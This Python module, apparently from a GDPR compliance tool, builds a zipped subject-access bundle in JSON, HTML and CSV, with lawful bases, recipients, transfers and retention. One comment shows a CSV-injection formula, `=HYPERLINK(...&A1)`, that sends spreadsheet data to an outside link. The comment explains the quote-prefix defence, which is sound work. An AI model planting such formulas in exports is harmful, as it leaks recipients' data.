"""The access bundle: every field and interaction of the subject, plus the information GDPR
Art. 15(1)–(2) requires (purposes, lawful bases, categories, sources, recipients, retention,
transfers, consent history, rights) — as JSON (machine-readable), CSV and a readable HTML
page, zipped."""

from __future__ import annotations

import io
import re
import uuid
import zipfile
from collections.abc import Collection, Iterable, Iterator, Sequence
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import ExitStack
from datetime import datetime
from html import escape
from typing import Any

import orjson
from markupsafe import Markup
from sqlalchemy import bindparam, or_, select

from pledge.access.context import TenantContext
from pledge.consent import service as consent
from pledge.consent.models import ConsentState, SubjectPurpose
from pledge.purposes.models import LawfulBasis, Purpose
from pledge.rights import clock
from pledge.rights.models import Recipient
from pledge.rights.recipients import SAFEGUARDS, is_transferred
from pledge.subjects import reading, retention
from pledge.subjects.categories import describe
from pledge.web.templating import templates

# ZIP entries get a fixed time: the same data gives the same bundle.
_ZIP_TIME = (2000, 1, 1, 0, 0, 0)
# zlib level: 1 deflates a large bundle at several times the speed of 6 for a few per cent
# more bytes (its text is repetitive: the same keys and categories on every line).
ZIP_LEVEL = 1
_DEFLATE_INLINE_BELOW = 256 * 1024  # bytes


# The purposes applying to a subject, in one query built once (every access request asks):
# consents in force and relationships in force, plus legal obligations and vital interests
# (which apply to everyone held).
_PURPOSES_APPLYING = (
    select(Purpose)
    .where(
        Purpose.tenant_id == bindparam("tenant_id"),
        Purpose.archived_at.is_(None),
        or_(
            Purpose.id.in_(
                select(ConsentState.purpose_id).where(
                    ConsentState.tenant_id == bindparam("tenant_id"),
                    ConsentState.subject_id == bindparam("subject_id"),
                    ConsentState.granted.is_(True),
                )
            ),
            Purpose.id.in_(
                select(SubjectPurpose.purpose_id).where(
                    SubjectPurpose.tenant_id == bindparam("tenant_id"),
                    SubjectPurpose.subject_id == bindparam("subject_id"),
                    SubjectPurpose.until.is_(None),
                )
            ),
            Purpose.lawful_basis.in_(
                [LawfulBasis.LEGAL_OBLIGATION.value, LawfulBasis.VITAL_INTEREST.value]
            ),
        ),
    )
    .order_by(Purpose.slug)
)


def purposes_applying(ctx: TenantContext, subject_id: uuid.UUID) -> list[Purpose]:
    """The purposes the subject's data is used for: consents in force and relationships in
    force, plus legal obligations (which apply to everyone held)."""
    return list(
        ctx.session.scalars(
            _PURPOSES_APPLYING, {"tenant_id": ctx.tenant_id, "subject_id": subject_id}
        )
    )


_ACTIVE_RECIPIENTS = select(Recipient).where(
    Recipient.tenant_id == bindparam("tenant_id"), Recipient.active.is_(True)
)


def art15_information(
    ctx: TenantContext, subject_id: uuid.UUID, record: dict[str, Any], jurisdiction: str
) -> dict[str, Any]:
    recipients = list(ctx.session.scalars(_ACTIVE_RECIPIENTS, {"tenant_id": ctx.tenant_id}))
    categories = sorted(
        {f["category"] for f in record["fields"]} | {i["category"] for i in record["interactions"]}
    )
    rule = clock.rule_for(jurisdiction, "access")
    return {
        "controller": {"name": ctx.settings.name, "contact": ctx.settings.privacy_contact or None},
        "purposes": [
            {
                "purpose": p.name,
                "lawful_basis": p.lawful_basis,
                "legitimate_interest": p.legitimate_interest_note,
                "categories": p.data_categories,
            }
            for p in purposes_applying(ctx, subject_id)
        ],
        "categories": [
            {"category": c, "label": describe(c).label, "sensitive": describe(c).sensitive}
            for c in categories
        ],
        "sources": sorted(
            {f["source"] for f in record["fields"]} | {i["source"] for i in record["interactions"]}
        ),
        "recipients": [{"name": r.name, "kind": r.kind, "country": r.country} for r in recipients],
        "transfers": _transfers(ctx, recipients),
        "retention": _retention(ctx),
        "consent_history": [
            {
                "at": e.record.recorded_at.isoformat(),
                "purpose": e.purpose.name,
                "action": e.record.action,
                "method": e.record.method,
                "wording": e.wording.text if e.wording else None,
                "wording_sha256": e.record.wording_sha256,
            }
            for e in consent.timeline(ctx, subject_id)
        ],
        "rights": "You may ask for rectification, erasure or restriction, object, ask for "
        "portability and withdraw consent at any time. "
        f"You may complain to {rule.complaint}.",
    }


def _retention(ctx: TenantContext) -> dict[str, str]:
    """For how long each kind of data is kept (GDPR Art. 15(1)(d)): per retention class,
    with what an erasure keeps and the period after which it is erased; per interaction
    rule, the period after which those interactions are deleted."""
    periods = retention.class_periods(ctx.settings.retention_classes)
    told: dict[str, str] = {}
    for name, cls in ctx.settings.retention_classes.items():
        said = str(cls.get("description", name))
        if cls.get("exempt_on_erasure"):
            said += f"; kept after an erasure: {cls['exempt_on_erasure']}"
        if name in periods:
            said += f"; erased {periods[name]} after an erasure that keeps it"
        told[name] = said
    told["standard"] = "kept while needed for the purposes listed, then erased"
    for rule in retention.interaction_rules(ctx.settings.interaction_retention):
        told[rule.describe()] = f"deleted {rule.keep} after they occurred"
    return told


def _transfers(ctx: TenantContext, recipients: Iterable[Recipient]) -> list[dict[str, Any]]:
    """The transfers out of the tenant's region (GDPR Art. 15(2)): per country and safeguard,
    the recipients there. A recipient in a country of the region is none (an EU tenant's
    Dutch sub-processor); one with no mechanism recorded is told so, not left out."""
    told: dict[tuple[str, str | None], list[str]] = {}
    for r in recipients:
        if is_transferred(ctx, r):
            told.setdefault((r.country, r.transfer_mechanism), []).append(r.name)
    return [
        {
            "country": country,
            "recipients": sorted(names),
            "mechanism": mechanism,
            "safeguard": SAFEGUARDS[mechanism],
        }
        # Per country: the recorded safeguards, then the recipients with none recorded.
        for (country, mechanism), names in sorted(
            told.items(), key=lambda item: (item[0][0], item[0][1] is None, item[0][1] or "")
        )
    ]


# Cells a spreadsheet would run as a formula ("CSV injection": `=HYPERLINK("http://…?"&A1)`
# sends the sheet's data away) start with one of these. Such a cell is written with a `'`
# before it, which spreadsheets read as "text" — unless it is plainly a number or a phone
# number (`-12.5`, `+44 7700 900123`, `+1 (555) 010-0199`): with no letter, no `=` or `@`,
# it cannot call anything, and it stays as given.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9][0-9 ().,/-]*")


def spreadsheet_safe(value: str) -> str:
    """`value` as a CSV cell no spreadsheet runs as a formula (see `_FORMULA_START`)."""
    if value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def _csv_table(
    header: Sequence[str], rows: Iterable[Sequence[str]], *, repeated: Collection[int] = ()
) -> bytes:
    """A CSV file of the bundle, as `csv.writer(...).writerows(...)` writes it: the header as
    is, then every data cell made spreadsheet-safe (`spreadsheet_safe`), then quoted where the
    `csv` module quotes (`_csv_field`; a hypothesis test holds the two byte-equal).

    Not the `csv` module: its C loop looks at every character of megabytes of payload text,
    this one searches each field once. The cells of the `repeated` columns (a kind, a
    category, a source: a few values over tens of thousands of rows) are worked out once per
    value. Strings only: the bundle's cells are (a missing payload is "")."""
    done: dict[str, str] = {}

    def known(value: str) -> str:
        cell = done.get(value)
        if cell is None:
            cell = done[value] = _csv_field(spreadsheet_safe(value))
        return cell

    def line(cells: list[str]) -> str:
        # A line of one empty cell is `""` (an empty line would be no cell at all).
        return '""' if cells == [""] else ",".join(cells)

    lines = [line([_csv_field(h) for h in header])]
    lines += [
        line([known(v) if i in repeated else _cell(v) for i, v in enumerate(row)]) for row in rows
    ]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def _cell(value: str) -> str:
    return _csv_field(spreadsheet_safe(value))


# A field `csv.writer` quotes (its default dialect, QUOTE_MINIMAL): one holding the
# delimiter, the quote or a line break.
_CSV_QUOTE = re.compile(r'[",\r\n]')


def _csv_field(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if _CSV_QUOTE.search(value) else value


def build(ctx: TenantContext, subject_id: uuid.UUID, jurisdiction: str, *, reference: str) -> bytes:
    """The zipped bundle. Reading the subject is audited (subject.exported).

    A subject may have tens of thousands of interactions: their payloads stay the JSON text
    they were sealed as, copied into the JSON document (as `orjson.Fragment`s), the CSV and
    the page without a parse, and each file is deflated while the next one is written."""
    record = reading.export_subject(ctx, subject_id, payload_text=True)
    info = art15_information(ctx, subject_id, record, jurisdiction)
    interactions = record["interactions"]
    texts: list[str | None] = [i["payload"] for i in interactions]
    for i, text in zip(interactions, texts, strict=True):
        i["payload"] = None if text is None else orjson.Fragment(text)

    def files() -> Iterator[tuple[str, bytes]]:
        document = {
            "reference": reference,
            "generated_at": datetime.now().astimezone().isoformat(),
            "data": record,
            "about_the_processing": info,
        }
        # For machines: compact, one line. The HTML page is the copy for reading.
        yield "your-data.json", orjson.dumps(document)
        page = templates.env.get_template("letters/bundle.html").render(
            tenant=ctx.settings,
            reference=reference,
            record=record,
            interaction_rows=_table_rows(
                (i["occurred_at"], i["kind"], text or "erased")
                for i, text in zip(interactions, texts, strict=True)
            ),
            info=info,
            describe=describe,
        )
        yield "your-data.html", page.encode()
        yield (
            "interactions.csv",
            _csv_table(
                ["occurred_at", "kind", "category", "source", "retention_class", "content"],
                (
                    (
                        i["occurred_at"],
                        i["kind"],
                        i["category"],
                        i["source"],
                        i["retention_class"],
                        text or "",
                    )
                    for i, text in zip(interactions, texts, strict=True)
                ),
                repeated={1, 2, 3, 4},
            ),
        )
        yield (
            "fields.csv",
            _csv_table(
                ["name", "value", "category", "source", "retention_class", "updated_at"],
                (
                    (
                        f["name"],
                        f["value"],
                        f["category"],
                        f["source"],
                        f["retention_class"],
                        f["updated_at"],
                    )
                    for f in record["fields"]
                ),
                repeated={2, 3, 4},
            ),
        )

    return _zip(files())


def _table_rows(rows: Iterable[tuple[str, str, str]]) -> Markup:
    """The rows of the page's interactions table, escaped. Built here, not by a loop in the
    template: it may have tens of thousands of rows, and Jinja's loop with markupsafe's
    escaping took five times as long. Cell text is never inside an attribute, so `<`, `>`
    and `&` are all that need escaping."""
    return Markup(  # noqa: S704 -- every cell is escaped just below
        "".join(
            [
                f"<tr><td>{escape(at, quote=False)}</td><td>{escape(kind, quote=False)}</td>"
                f"<td>{escape(text, quote=False)}</td></tr>\n"
                for at, kind, text in rows
            ]
        )
    )


def _zip(files: Iterator[tuple[str, bytes]]) -> bytes:
    """Zip the files in the order `files` yields them. From the first large one on, each is
    deflated by a worker thread, in order, while the next ones are produced: zlib lets go of
    the GIL while it compresses, so on a second core the deflating overlaps the Python work.
    Small files before it (all of a typical subject's) are deflated in place: a thread would
    cost more than it saves."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, ExitStack() as stack:
        writer: ThreadPoolExecutor | None = None
        queued: list[Future[None]] = []
        for name, content in files:
            if writer is None and len(content) < _DEFLATE_INLINE_BELOW:
                _add(archive, name, content)
                continue
            if writer is None:
                # One worker: the archive gets its entries one after the other, in order.
                writer = stack.enter_context(
                    ThreadPoolExecutor(max_workers=1, thread_name_prefix="bundle-zip")
                )
            queued.append(writer.submit(_add, archive, name, content))
            _raise_failed(queued)  # stop producing once a write failed
        for done in queued:
            done.result()  # re-raises what failed in the worker
    return buffer.getvalue()


def _raise_failed(queued: list[Future[None]]) -> None:
    for done in queued:
        if done.done() and done.exception() is not None:
            done.result()


def _add(archive: zipfile.ZipFile, name: str, content: bytes) -> None:
    # A ZipInfo carries its own compression (stored unless told): deflate each entry.
    archive.writestr(
        zipfile.ZipInfo(name, _ZIP_TIME),
        content,
        compress_type=zipfile.ZIP_DEFLATED,
        compresslevel=ZIP_LEVEL,
    )


def portable_data(ctx: TenantContext, subject_id: uuid.UUID) -> dict[str, Any]:
    """GDPR Art. 20 (seed 004): only what the person provided, held on consent or contract.
    A field counts when the person gave it (source "direct") and a consent or contract
    purpose that applies to them uses its category."""
    bases = {LawfulBasis.CONSENT.value, LawfulBasis.CONTRACT.value}
    covered = [
        c
        for p in purposes_applying(ctx, subject_id)
        if p.lawful_basis in bases
        for c in p.data_categories
    ]
    view = reading.read_subject(ctx, subject_id, audited=False)

    def on_basis(category: str) -> bool:
        return any(category == c or category.startswith(c + ".") for c in covered)

    fields = [f for f in view.fields if f.source == "direct" and on_basis(f.category)]
    return {
        "format": "pledge-portable-v1",
        "fields": [{"name": f.name, "value": f.value, "category": f.category} for f in fields],
    }
